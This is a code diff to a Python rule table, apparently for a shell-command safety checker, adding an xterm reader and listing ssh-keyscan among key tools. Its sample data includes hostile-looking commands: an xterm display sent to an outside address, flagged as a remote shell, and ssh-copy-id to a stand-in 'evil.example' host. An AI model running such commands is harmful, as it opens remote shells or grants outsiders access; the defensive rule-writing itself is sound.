@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 from .entry import Program, Rule
-from .web import read_curl, read_netcat, read_openssl, read_sender, read_socat, read_ssh
+from .web import read_curl, read_netcat, read_openssl, read_sender, read_socat, read_ssh, read_xterm
 
 PROGRAMS = (
     Program(
@@ -129,10 +129,10 @@ PROGRAMS = (
     ),
     Program(
         "xterm",
-        values="-display",
-        rules=(Rule("-display", "remote_shell"),),
+        values="-display -e",
+        reader=read_xterm,
         quiet=True,
-        allow=("xterm",),
+        allow=("xterm", "xterm -display :0"),
         forbid=("xterm -display 203.0.113.9:1",),
     ),
     Program("ssh-copy-id", rules=(Rule("", "access"),), ask=("ssh-copy-id eve@evil.example",)),
@@ -144,7 +144,7 @@ PROGRAMS = (
         allow=("ssh-keygen -lf ~/.ssh/id_ed25519.pub", "ssh-keygen -t ed25519 -f /tmp/k -N ''"),
     ),
     Program(
-        "ssh-add age sops step mkcert minisign signify cosign",
+        "ssh-add ssh-keyscan age sops step mkcert minisign signify cosign",
         quiet=True,
         allow=("ssh-add -l", "ssh-add ./private_key"),
     ),
